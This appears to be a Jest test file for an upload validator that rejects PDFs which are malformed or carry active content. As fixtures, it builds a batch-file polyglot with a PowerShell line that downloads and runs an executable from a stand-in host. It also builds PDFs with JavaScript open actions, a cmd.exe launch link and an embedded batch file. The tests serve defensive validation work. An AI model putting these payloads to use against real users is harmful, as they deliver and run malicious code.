import { PDFName, PDFString } from 'pdf-lib';
import { makePdf, samplePdf } from '../test/pdfs';
import { pdfProblem } from './uploadedPdf';

/** A Windows batch file behind a PDF header: what a check of the first bytes alone accepts. */
const BATCH = Buffer.from('%PDF-1.4\r\n@echo off\r\npowershell -c "iwr http://example.test/x.exe -OutFile x.exe; .\\x.exe"\r\n%%EOF\r\n');

describe('pdfProblem', () => {
  test('a PDF of one page, as office suites and scanners write it, is accepted', async () => {
    expect(await pdfProblem(await samplePdf())).toBeUndefined();
    expect(await pdfProblem(await makePdf(undefined, { useObjectStreams: false }))).toBeUndefined();
  });

  test('a document that opens on its first page (an OpenAction that is a destination) is accepted', async () => {
    const opensOnPage = await makePdf((doc) => doc.catalog.set(PDFName.of('OpenAction'), doc.context.obj([doc.getPage(0).ref, 'Fit'])));
    expect(await pdfProblem(opensOnPage)).toBeUndefined();
  });

  test.each([
    ['a batch file behind a PDF header', async () => BATCH],
    ['a header, an object and a trailer, but no page', async () => Buffer.from('%PDF-1.4\n1 0 obj <<>> endobj\ntrailer <<>>\n%%EOF\n')],
    ['a PDF without pages', () => makePdf((doc) => doc.removePage(0), { addDefaultPage: false })],
    ['a PDF cut in the middle', async () => (await samplePdf()).subarray(0, Math.floor((await samplePdf()).length / 2))],
    [
      'a PDF cut at an object boundary (pdf-lib alone would rebuild it)',
      async () => {
        const whole = await makePdf(undefined, { useObjectStreams: false });
        return whole.subarray(0, whole.lastIndexOf('endobj') + 'endobj'.length);
      },
    ],
    ['a PDF behind other bytes', async () => Buffer.concat([Buffer.from('MZ\n'), await samplePdf()])],
  ])('%s is not a PDF', async (_case, bytes) => {
    expect(await pdfProblem(await bytes())).toBe('notPdf');
  });

  test.each([
    [
      'JavaScript run at opening (/OpenAction)',
      () => makePdf((doc) => doc.catalog.set(PDFName.of('OpenAction'), doc.context.obj({ S: 'JavaScript', JS: PDFString.of('app.alert(1)') }))),
    ],
    [
      'JavaScript at opening in an object stream, by reference',
      () =>
        makePdf(
          (doc) =>
            doc.catalog.set(
              PDFName.of('OpenAction'),
              doc.context.register(doc.context.obj({ S: 'JavaScript', JS: PDFString.of('app.launchURL("http://example.test")') })),
            ),
          { useObjectStreams: true },
        ),
    ],
    [
      'document-level JavaScript (the Names tree)',
      () =>
        makePdf((doc) => {
          const action = doc.context.register(doc.context.obj({ S: 'JavaScript', JS: PDFString.of('app.alert(1)') }));
          doc.catalog.set(PDFName.of('Names'), doc.context.obj({ JavaScript: { Names: [PDFString.of('run'), action] } }));
        }),
    ],
    ['an embedded file', () => makePdf((doc) => doc.attach(Buffer.from('@echo off'), 'run.bat', { mimeType: 'application/x-bat' }))],
    [
      'a link launching a program',
      () =>
        makePdf((doc) =>
          doc
            .getPage(0)
            .node.set(
              PDFName.of('Annots'),
              doc.context.obj([doc.context.obj({ Type: 'Annot', Subtype: 'Link', Rect: [0, 0, 50, 50], A: { S: 'Launch', F: PDFString.of('cmd.exe') } })]),
            ),
        ),
    ],
    [
      'an action when a page opens (/AA)',
      () => makePdf((doc) => doc.getPage(0).node.set(PDFName.of('AA'), doc.context.obj({ O: { S: 'GoToR', F: PDFString.of('x.pdf') } }))),
    ],
  ])('%s is active content', async (_case, bytes) => {
    expect(await pdfProblem(await bytes())).toBe('activeContent');
  });
});
